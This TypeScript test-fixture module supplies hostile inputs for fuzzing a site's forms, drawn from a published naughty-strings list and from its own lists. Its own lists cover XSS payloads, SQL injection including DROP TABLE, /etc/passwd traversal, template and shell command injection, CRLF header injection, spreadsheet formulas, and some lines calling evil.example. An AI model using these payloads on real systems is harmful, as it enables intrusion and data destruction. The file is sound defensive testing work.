import naughty from 'big-list-of-naughty-strings/blns.json'
import { sampled, someOf } from './exhaustive.ts'

// What attackers and accidents type. Our own few of each kind, and a published list of what has felled others.

export const kinds: Readonly<Record<string, readonly string[]>> = {
  'a script': [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '</script><script>alert(1)</script>',
  ],
  'markup that runs': [
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '</textarea></title><svg onload=alert(1)>',
    '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">',
  ],
  'markup that does not run': [
    '<style>*{display:none}</style>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name=email>',
    '<!-- <b>',
    ']]><b>',
    '&lt;img src=x onerror=alert(1)&gt;&#x202e;',
    '[a link](javascript:alert(1)) ![x](//evil.example/x.png)',
  ],
  'a query in SQL': [
    "' OR '1'='1",
    "'; DROP TABLE endorsements; --",
    '1) UNION SELECT NULL, sealed, NULL FROM contacts --',
    "a'||pg_sleep(5)||'",
    "$$; SELECT set_config('role','countersign_owner',false); $$",
    '\\x27 OR 1=1 /*',
    '100%_\\',
  ],
  'another path': [
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '....//....//etc/hosts',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '/..;/moderation',
    'file:///etc/passwd',
  ],
  'a template or a format': [
    '%s%n%x%d',
    '%1$*2147483647$d',
    '{0} {organisation} {count, plural, other {#}}',
    '#{7*7} {{7*7}} <%= 7*7 %> $' + '{7*7}',
    "$& $1 $` $'",
    '`id` $(id) ; id | id && id',
  ],
  'a formula': ['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=HYPERLINK("//evil.example";"x")', '\t=1+1'],
  'a name of the language': [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'undefined',
    'null',
    '[object Object]',
    'NaN',
  ],
  'a header': ['x\r\nBcc: jane@victim.example', 'x\r\n\r\n<b>', 'x\nSet-Cookie: a=b', '=?utf-8?B?PGI+?='],
  'characters that deceive': [
    'Via\u202Esna',
    'Via\u200Bsna',
    'a\u0000b',
    '\uFEFFViasna',
    'Z\u0351\u0346\u0300\u0301\u0302\u0303\u0304\u0305algo',
    '\uD800',
    '\uFDFA'.repeat(40),
    'Вiasna',
  ],
  'an end that does not come': ['A'.repeat(5000), 'ß'.repeat(200), '👩‍👩‍👧‍👦'.repeat(60), 'Людзі'.repeat(40)],
  'other scripts': [
    'منظمة حقوق الإنسان (بيلاروس) 2026',
    '人権フォーラム',
    'ᠮᠣᠩᠭᠣᠯ',
    'ﬁnal ½ Ⅳ',
    '👍🏽 forum',
  ],
}

/** Every string of ours, each with its kind. */
export const ownStrings = Object.entries(kinds).flatMap(([kind, texts]) =>
  texts.map(text => ({ kind, text: text.toWellFormed() })),
)

/** The first of each kind. */
export const oneOfEach = Object.entries(kinds).map(([kind, [text = '']]) => ({ kind, text }))

/** The Big List of Naughty Strings, as far as a form can bring them: without half a character. */
export const publishedStrings = naughty.filter(text => text !== '').map(text => text.toWellFormed())

/** What one test tries: all of it in `npm run test:all`. */
export const someStrings = (count: number) =>
  someOf([...new Set([...ownStrings.map(({ text }) => text), ...publishedStrings])], count)
export { sampled }

/** Bodies as no browser makes them of our forms: each gives what a form of these fields becomes. */
export const bodies: Readonly<Record<string, (fields: Record<string, string>) => RequestInit>> = {
  'each field twice': fields => {
    const twice = new URLSearchParams([...Object.entries(fields), ...Object.entries(fields)])
    return urlencoded(twice.toString())
  },
  'each field as an array': fields =>
    urlencoded(
      new URLSearchParams(
        Object.entries(fields).map(([name, value]): [string, string] => [`${name}[]`, value]),
      ).toString(),
    ),
  'fields that objects have': fields =>
    urlencoded(
      new URLSearchParams([
        ...Object.entries(fields),
        ...[
          '__proto__',
          '__proto__[a]',
          'constructor',
          'constructor.prototype',
          'toString',
          'hasOwnProperty',
          '',
        ].map((name): [string, string] => [name, 'x']),
      ]).toString(),
    ),
  'bytes that are not UTF-8': fields =>
    urlencoded(
      Object.keys(fields)
        .map(name => `${name}=%ff%fe%C0%80%ED%A0%80`)
        .join('&'),
    ),
  'half escapes': fields =>
    urlencoded(
      Object.keys(fields)
        .map(name => `${name}=%&%zz=%0`)
        .join('&'),
    ),
  'ten thousand fields': () => urlencoded(Array.from({ length: 10_000 }, (_, i) => `f${i}=`).join('&')),
  'files for texts': fields => {
    const form = new FormData()
    for (const name of Object.keys(fields)) form.append(name, new Blob(['x']), '../../x')
    return { body: form }
  },
  'no field': () => urlencoded(''),
}

const urlencoded = (body: string): RequestInit => ({
  body,
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
})
